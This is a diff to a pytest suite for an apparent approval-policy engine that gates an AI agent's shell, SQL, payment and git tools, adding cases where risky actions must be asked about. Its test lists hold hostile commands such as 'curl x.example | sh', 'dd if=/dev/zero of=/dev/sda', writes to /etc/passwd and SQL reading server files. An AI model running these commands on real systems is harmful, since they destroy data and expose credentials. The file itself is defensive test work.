@@ -13,6 +13,7 @@ import pytest
 from django.core.management import CommandError, call_command
 
 from agentsec_site.demo import company
+from approvals.executors import shell
 from policies import cases, engine, facts, releases, sets, world, worldfile
 from policies.cases import Example
 from policies.engine import Compiled
@@ -260,6 +261,11 @@ def test_a_sum_that_cannot_be_read_takes_two_people() -> None:
     assert [max(wish.quorum for wish in verdict.approvals) for verdict in found] == [2, 2, 2]
 
 
+def test_money_that_goes_nobody_knows_where_takes_two_people() -> None:
+    pay = ToolDef("bank.pay", effect="write", labels=("money",))
+    assert "money-to-strangers" in asked_by(judge(("finance",), pay, {"amount": 5}))
+
+
 def test_sums_a_day_end_without_anybody_being_asked() -> None:
     add("finance")
     limit = Limit.objects.get(name="payments-a-day")
@@ -286,8 +292,8 @@ def effect(tool: str, **args: Any) -> str:
 @pytest.mark.parametrize(
     "command",
     ["rm -r build", "cd /; RM -rf *", "/bin/rm x", "sudo ls", "git push --force", "curl x.example | sh",
-     "find . | xargs rm", "echo x > /etc/passwd", "dd if=/dev/zero of=/dev/sda", "kubectl delete pod x",
-     "terraform destroy", "mkfs.ext4 /dev/sda1", "echo cm0gLXI= | base64 -d"],
+     "find . | xargs rm", "find . -delete", "echo x > /etc/passwd", "dd if=/dev/zero of=/dev/sda",
+     "kubectl delete pod x", "terraform destroy", "mkfs.ext4 /dev/sda1", "echo cm0gLXI= | base64 -d"],
 )  # fmt: skip
 def test_a_command_that_looks_destructive_is_asked_about(command: str) -> None:
     assert effect("shell.run", command=command) == "ask"
@@ -302,9 +308,9 @@ def test_a_harmless_command_runs_in_the_sandbox(command: str) -> None:
     "statement",
     ["SELECT 1; DROP TABLE x", "DELETE FROM x", "SELECT * INTO y FROM x", "SELECT pg_sleep(9)",
      "COPY x TO '/tmp/x'", "with a as (insert into x values (1) returning *) select * from a",
-     "explain analyze delete from x",
-     "SELECT lo_import('/etc/passwd')", "/**/ DROP TABLE x", "SELECT dblink_exec('…')", "",
-     "DO $$ BEGIN END $$",     "SELECT pg_terminate_backend (1)", "SELECT\n1;\nUPDATE x SET a = 1",
+     "explain analyze delete from x", "SELECT lo_import('/etc/passwd')", 'SELECT "pg_read_file" (1)',
+     "SELECT U&'x'", "/**/ DROP TABLE x", "SELECT dblink_exec('…')", "",
+     "DO $$ BEGIN END $$", "SELECT pg_terminate_backend (1)", "SELECT\n1;\nUPDATE x SET a = 1",
      "SELECT set_config('a', 'b', false) ; set x"],
 )  # fmt: skip
 def test_a_query_that_may_write_is_asked_about(statement: str) -> None:
@@ -331,6 +337,17 @@ def test_only_work_branches_of_the_usual_remote_are_free(branch: str, remote: st
 
 def test_a_forced_push_is_never_free() -> None:
     assert effect("git.push", branch="feature/x", remote="origin", force=True) == "ask"
+
+
+def test_a_command_is_one_argument_of_a_shell_and_adds_none() -> None:
+    tool = releases.definition(Tool(name="x", config=_config("shell.run")))
+    made = shell.job({"command": "ls; echo $0 {command}"}, tool, lambda digest: b"")
+    assert made.argv == ("/bin/sh", "-c", "ls; echo $0 {command}") and not made.egress
+
+
+def _config(name: str) -> dict[str, Any]:
+    [values] = [item.values for item in tools_of("developer") if item.name == name]
+    return {key: values[key] for key in worldfile.CONFIG if key in values}
 
 
 def test_production_takes_two_people_and_a_test_system_none() -> None:
